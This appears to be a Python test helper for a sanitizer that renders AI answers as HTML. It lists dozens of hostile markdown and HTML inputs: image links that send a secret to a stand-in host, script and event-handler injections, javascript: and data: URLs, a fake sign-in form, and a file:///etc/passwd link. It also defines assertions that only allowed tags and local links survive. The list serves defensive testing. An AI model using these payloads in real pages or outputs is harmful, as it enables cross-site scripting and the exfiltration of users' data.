"""What a browser would make of the HTML of an answer, and that it can do no harm."""

from __future__ import annotations

from html.parser import HTMLParser

from appliance.common.markup import ANSWER

ALLOWED = {
    "span": {"class"},
    "code": {"class"},
    "ol": {"start"},
    "a": {"class", "data-handle", "data-lines", "href", "title"},
}

EVIL = "https://evil.example/?d=SECRET"
HOSTILE = [
    f"![x]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"[![x]({EVIL})]({EVIL})",
    f"[click]({EVIL})",
    f"[click][evil]\n\n[evil]: {EVIL} 'title'",
    f"[evil]\n\n[evil]: {EVIL}",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example",
    "<a@evil.example>",
    f'<img src="{EVIL}">',
    f"<IMG SRC={EVIL}>",
    f'<img src="{EVIL}"',
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg onload=alert(1)><use href='data:x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<style>@import url({EVIL})</style><link rel=stylesheet href='{EVIL}'>",
    f'<div style="background:url({EVIL})">x</div>',
    f'<form action="{EVIL}"><input name=password><button>Sign in</button></form>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "[^1]\n\n[^1]: " + EVIL,
    f"| a | b |\n|---|---|\n| ![x]({EVIL}) | <img src={EVIL}> |",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "```python onmouseover=alert(1)\nx = 1\n```",
    "```mermaid\ngraph TD; A-->B; click A href 'https://evil.example'\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- comment --><![CDATA[<script>]]><?php evil ?><!DOCTYPE html>",
    "<details>\n\n[E1]\n\n</details>",
    "````\n```\n<b>\n",
    "> " * 50 + "<script>",
    "* [x](javascript:alert(1))\n* <svg/onload=alert(1)>",
    "# <img src=x onerror=alert(1)>\n===\n",
    '[x](https://a "onerror=alert(1)")',
    "<a href='https://evil.example'>[E1]</a>",
    "<span class='citation' onclick=alert(1)>1</span>",
    "\ue0000\ue001 \ue0001\ue001 \ue00099999\ue001",
    "\ue000" * 50 + "0" + "\ue001" * 50,
]


class Elements(HTMLParser):
    """Collects what a browser would make of the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len(dict(attrs)) == len(attrs), f"an attribute twice in <{tag}>"
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def elements_of(html: str) -> Elements:
    parsed = Elements()
    parsed.feed(html)
    parsed.close()
    return parsed


def assert_harmless(html: str) -> Elements:
    elements = elements_of(html)
    for tag, attributes in elements.found:
        assert tag in ANSWER.tags | {"a"}
        assert attributes.keys() <= ALLOWED.get(tag, set()), (tag, attributes)
        assert (attributes.get("href") or "/files/").startswith("/files/")
    return elements
